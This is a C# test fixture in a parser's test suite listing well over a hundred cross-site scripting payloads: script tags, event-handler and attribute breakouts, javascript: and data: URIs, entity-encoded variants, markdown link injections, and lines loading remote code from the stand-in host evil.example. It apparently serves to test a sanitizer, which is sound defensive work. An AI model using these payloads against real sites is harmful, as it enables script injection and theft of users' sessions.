namespace Upshot.Tests.Parsing;

/// <summary>What people have pasted to make a browser run something.</summary>
internal static class Payloads
{
    /// <summary>Markup, attributes that close the one they stand in, and addresses that run.</summary>
    public static string[] All { get; } =
        """"
            <script>alert(1)</script>
            <SCRIPT SRC=//evil.example/x.js></SCRIPT>
            <script src="data:text/javascript,alert(1)"></script>
            <scr<script>ipt>alert(1)</scr</script>ipt>
            <script/x>alert(1)</script>
            <script	>alert(1)</script>
            <script>alert(1)
            <script type="module">import('//evil.example')</script>
            "><script>alert(1)</script>
            '><script>alert(1)</script>
            --><script>alert(1)</script>
            ]]><script>alert(1)</script>
            </title><script>alert(1)</script>
            </textarea><script>alert(1)</script>
            </code></pre><script>alert(1)</script>
            <img src=x onerror=alert(1)>
            <img src=x onerror="alert(1)"/>
            <img/src=x/onerror=alert(1)>
            <img src="x`" `onerror=alert(1)>
            <IMG """><SCRIPT>alert(1)</SCRIPT>">
            <image src=x onerror=alert(1)>
            <svg onload=alert(1)>
            <svg/onload=alert(1)>
            <svg><script>alert(1)</script></svg>
            <svg><animate onbegin=alert(1) attributeName=x dur=1s>
            <svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
            <svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>
            <svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>
            <svg><style><img src=x onerror=alert(1)></style></svg>
            <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
            <math href="javascript:alert(1)">x</math>
            <math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x
            <iframe src=javascript:alert(1)>
            <iframe srcdoc="<script>alert(1)</script>">
            <iframe/onload=alert(1)>
            <object data="javascript:alert(1)">
            <object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
            <embed src="javascript:alert(1)">
            <embed code="//evil.example/x.swf" allowscriptaccess=always>
            <applet code="evil.class">
            <form action="javascript:alert(1)"><button>x</button></form>
            <form><button formaction="javascript:alert(1)">x</button></form>
            <input autofocus onfocus=alert(1)>
            <input type=image src=x onerror=alert(1)>
            <select autofocus onfocus=alert(1)>
            <textarea autofocus onfocus=alert(1)>
            <keygen autofocus onfocus=alert(1)>
            <button onclick=alert(1)>x</button>
            <isindex type=image src=x onerror=alert(1)>
            <video src=x onerror=alert(1)>
            <video><source onerror=alert(1)></video>
            <video poster="javascript:alert(1)">
            <audio src=x onerror=alert(1)>
            <track src=x onerror=alert(1)>
            <details open ontoggle=alert(1)>
            <marquee onstart=alert(1)>x</marquee>
            <body onload=alert(1)>
            <body background="javascript:alert(1)">
            <html onmouseover=alert(1)>
            <frameset onload=alert(1)>
            <base href="//evil.example/">
            <base href="javascript:alert(1)//">
            <link rel=stylesheet href="//evil.example/x.css">
            <link rel=import href="data:text/html,<script>alert(1)</script>">
            <meta http-equiv=refresh content="0;url=javascript:alert(1)">
            <meta http-equiv=set-cookie content="a=b">
            <style>@import '//evil.example/x.css'</style>
            <style>*{background:url(javascript:alert(1))}</style>
            <div style="background:url(javascript:alert(1))">x</div>
            <div style="width:expression(alert(1))">x</div>
            <a href="javascript:alert(1)">x</a>
            <a href=" &#14; javascript:alert(1)">x</a>
            <a href="java&#10;script:alert(1)">x</a>
            <a href=javascript&colon;alert&lpar;1&rpar;>x</a>
            <a onmouseover=alert(1)>x</a>
            <a/href=javascript:alert(1)/onclick=alert(1)>x</a>
            <x onclick=alert(1)>x</x>
            <x contenteditable onblur=alert(1)>x</x>
            <xss style="animation-name:x" onanimationstart="alert(1)"></xss>
            <template><script>alert(1)</script></template>
            <noscript><p title="</noscript><img src=x onerror=alert(1)>">
            <noembed><img title="</noembed><img src=x onerror=alert(1)>">
            <xmp><p title="</xmp><svg onload=alert(1)>">
            <plaintext><img src=x onerror=alert(1)>
            <comment><img src="</comment><img src=x onerror=alert(1)//">
            <![CDATA[<img src=x onerror=alert(1)>]]>
            <!--[if gte IE 4]><script>alert(1)</script><![endif]-->
            <!-- --!><script>alert(1)</script>
            <!--><script>alert(1)</script>-->
            <!---><script>alert(1)</script>-->
            <!-- a --> <script>alert(1)</script>
            <!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>
            <?xml version="1.0"?><?xml-stylesheet href="javascript:alert(1)"?>
            <?php echo '<script>alert(1)</script>' ?>
            <% alert(1) %>
            <div id=location name=cookie><a id=location href=x>x</a></div>
            <img name=getElementById><form name=documentElement>
            <dialog open onclose=alert(1)>x</dialog>
            <portal src="//evil.example">
            <slot onslotchange=alert(1)>
            &lt;script&gt;alert(1)&lt;/script&gt;
            &#60;script&#62;alert(1)&#60;/script&#62;
            &#x3C;img src=x onerror=alert(1)&#x3E;
            " onmouseover="alert(1)
            ' onmouseover='alert(1)
            ` onmouseover=`alert(1)
            x" onerror="alert(1)
            x" style="background:url(//evil.example)
            x"><img src=x onerror=alert(1)>
            x&quot; onmouseover=&quot;alert(1)
            x&#34; onmouseover=&#34;alert(1)
            javascript:alert(1)
            JaVaScRiPt:alert(1)
            javascript:alert(1)//https://it.example
            javascript://it.example/%0Aalert(1)
            java	script:alert(1)
            java&#9;script:alert(1)
            java&Tab;script:alert(1)
            java&NewLine;script:alert(1)
            javascript&colon;alert(1)
            &#106;avascript:alert(1)
            &#x6A;&#x61;vascript:alert(1)
            &#0000106&#0000097vascript:alert(1)
            \javascript:alert(1)
            javascript\:alert(1)
            %6A%61vascript:alert(1)
            vbscript:msgbox(1)
            livescript:alert(1)
            data:text/html,<script>alert(1)</script>
            data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
            data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+
            DATA:text/html,x
            file:///etc/passwd
            blob:https://it.example/x
            feed:javascript:alert(1)
            view-source:javascript:alert(1)
            jar:javascript:alert(1)
            ms-its:x
            //evil.example/x
            \\evil.example\x
            /\evil.example
            \/evil.example
            &#47;&#47;evil.example
            &sol;&sol;evil.example
            &bsol;&bsol;evil.example
            ///evil.example
            https:\\evil.example
            {onclick=alert(1)}
            {: onclick="alert(1)" }
            x{style="color:red" onmouseover=alert(1)}
            ](javascript:alert(1))
            )[x](javascript:alert(1)
            ![x](x"onerror="alert(1))
            [x](x "y" onmouseover="alert(1)")
            [x](<javascript:alert(1)>)
            <javascript:alert(1)>
            <JAVASCRIPT:alert(1)>
            <data:text/html,x>
            {{constructor.constructor('alert(1)')()}}
            ${alert(1)}
            """".ReplaceLineEndings("\n").Split('\n');
}
